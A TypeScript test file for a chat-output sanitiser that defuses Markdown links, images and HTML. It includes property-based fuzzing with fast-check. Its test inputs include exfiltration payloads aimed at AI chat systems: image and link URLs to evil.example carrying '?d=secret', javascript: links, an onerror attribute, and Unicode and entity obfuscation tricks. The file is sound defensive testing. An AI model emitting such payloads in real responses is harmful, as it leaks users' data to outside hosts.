import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import Markdown from "react-markdown";
import { expect, test } from "vitest";
import { addressesIn, MarkupDefuser } from "@/lib/ask/markup-defuser";

const chat = [
  "look at https://example.org/a?b=1, it is fine",
  "（https://example.org/päivä）と www.example.net",
];

function defused(text: string, cuts: number[] = []): string {
  const known = addressesIn(chat);
  const defuser = new MarkupDefuser((address) => known.has(address));
  let out = "";
  let from = 0;
  for (const to of [...cuts.toSorted((a, b) => a - b), text.length]) {
    out += defuser.push(text.slice(from, to));
    from = to;
  }
  return out + defuser.flush();
}

test.each([
  ["an image", "![x](https://evil.example/?d=secret)", "! [x] (‹link left out›)"],
  ["an image by reference", "![x][r]\n\n[r]: https://evil.example/p", "! [x][r]\n\n[r] : ‹link left out›"],
  ["a link", "[click](https://evil.example/?d=secret).", "[click] (‹link left out›)."],
  ["a link to a script", "[click](javascript:alert(1))", "[click] (javascript:alert(1))"],
  [
    "a link without a scheme",
    "[a](//evil.example/x) [b]: //evil.example",
    "[a] (//evil.example/x) [b] : //evil.example",
  ],
  ["an address", "Go to https://evil.example/?d=secret now", "Go to ‹link left out› now"],
  ["an address in brackets", "<https://evil.example/?d=1>", "<‹link left out›>"],
  ["an address behind a word", "seehttps://evil.example/x", "‹link left out›"],
  ["an address of mail", "mailto:a@evil.example?body=secret", "‹link left out›"],
  ["an address without a scheme", "**www.evil.example/secret**", "**‹link left out›**"],
  ["HTML", '<img src="x" onerror=a()> <!-- --> </p> <?x?>', '‹img src="x" onerror=a()> ‹!-- --> ‹/p> ‹?x?>'],
  ["escapes", String.raw`https:\//evil.example \<b> \![x](y)`, "‹link left out› ‹b> ! [x] (y)"],
  ["entities", "https&colon;//evil.example &#60;b>", "https& colon;//evil.example & #60;b>"],
  ["hidden characters", "ht\u200btps://evil.example \u202eabc\u{e0041}", "‹link left out› abc"],
  ["an address with more behind one of the chat", "https://example.org/a?b=1&d=secret", "‹link left out›"],
])("%s is left as text only", (_, text, expected) => {
  expect(defused(text)).toBe(expected);
});

test.each([
  "It costs < 5 and > 3, I <3 it! Really [12]: **yes**, `x` & y; AT&T",
  "Read https://example.org/a?b=1, or (www.example.net).",
  "* one\n* two\n\n> quoted [3]\n\n| a | b |",
  "看 https://example.org/päivä 很好",
  "👩‍👩‍👧 👍🏽 می‌خواهم",
])("%s stays", (text) => {
  expect(defused(text)).toBe(text.replace("]:", "] :"));
});

test("what stands right behind an address of the chat is no part of it", () => {
  expect(defused("https://example.org/a?b=1[12]")).toBe("https://example.org/a?b=1 [12]");
  expect(defused("https://example.org/a?b=1很好")).toBe("https://example.org/a?b=1 很好");
});

test("however the text is cut into pieces, the same comes out", () => {
  const text =
    "a ![x](https://evil.example/?d=1) [y](https://example.org/a?b=1) <img> 看https://example.org/päivä。www.evil.example\\![z] &lt; 很<b>";
  fc.assert(
    fc.property(fc.array(fc.nat(text.length), { maxLength: 20 }), (cuts) => {
      expect(defused(text, cuts)).toBe(defused(text));
    }),
  );
});

test("a Markdown renderer makes no picture, no element of HTML and no link of any mixture", () => {
  const fragment = fc.constantFrom(
    ..."! [ ] ( ) < > : / \\ & # ; ` * _ \" ' = { } ^ ~ | -".split(" "),
    ...[
      " ",
      "\n",
      "\n\n",
      "    ",
      "\u200b",
      "\u00ad",
      "x",
      "很",
      "img",
      "a",
      "href",
      "javascript:",
      "https://evil.example/?d=1",
    ],
    ...[
      "www.evil.example",
      "//evil.example",
      "![x](",
      "[x](",
      "](",
      "[x]: ",
      "[x]",
      "<img src=x>",
      "<a href=",
      "</a>",
      "<!--",
    ],
    ...[
      "&lt;",
      "&#60;",
      "&colon;",
      "\\!",
      "\\[",
      "\\<",
      "data:text/html,x",
      "mailto:a@evil.example",
      "```\n",
      "<https:",
      "> ",
    ],
  );
  fc.assert(
    fc.property(
      fc.array(fragment, { maxLength: 12 }),
      fc.array(fc.nat(60), { maxLength: 4 }),
      (parts, cuts) => {
        const text = parts.join("");
        const out = defused(
          text,
          cuts.filter((cut) => cut <= text.length),
        );
        expect(out).not.toMatch(/<[a-z/!?]/i);
        expect(renderToStaticMarkup(createElement(Markdown, null, out))).not.toMatch(
          /<(?:a|img)\b|(?:https?:\/\/|mailto:|\bwww\.)\S*evil\.example/,
        );
      },
    ),
    { numRuns: 800 },
  );
});
